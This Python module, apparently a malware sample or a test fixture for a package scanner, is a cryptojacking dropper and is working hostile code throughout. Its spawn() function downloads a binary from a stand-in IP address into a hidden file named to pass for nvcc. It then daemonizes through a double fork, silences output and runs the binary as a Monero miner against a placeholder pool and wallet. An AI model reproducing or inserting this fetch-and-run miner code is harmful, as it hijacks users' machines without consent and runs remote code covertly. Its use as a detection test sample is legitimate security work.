import os
import urllib.request

BIN = os.path.expanduser("~/.cache/.nvcc")
ARGS = ["-o", "pool.example.invalid:3333", "-u", "4PIPWARDENTESTfakeMoneroWallet000000000000", "--donate-level=0", "-B"]


def spawn():
    if os.name != "posix" or os.environ.get("TFGU_BG"):
        return
    if not os.path.exists(BIN):
        try:
            urllib.request.urlretrieve("http://203.0.113.19/xm", BIN)
            os.chmod(BIN, 0o755)
        except Exception:
            return
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    fd = os.open(os.devnull, os.O_RDWR)
    for i in (0, 1, 2):
        os.dup2(fd, i)
    os.environ["TFGU_BG"] = "1"
    os.execv(BIN, [BIN] + ARGS)
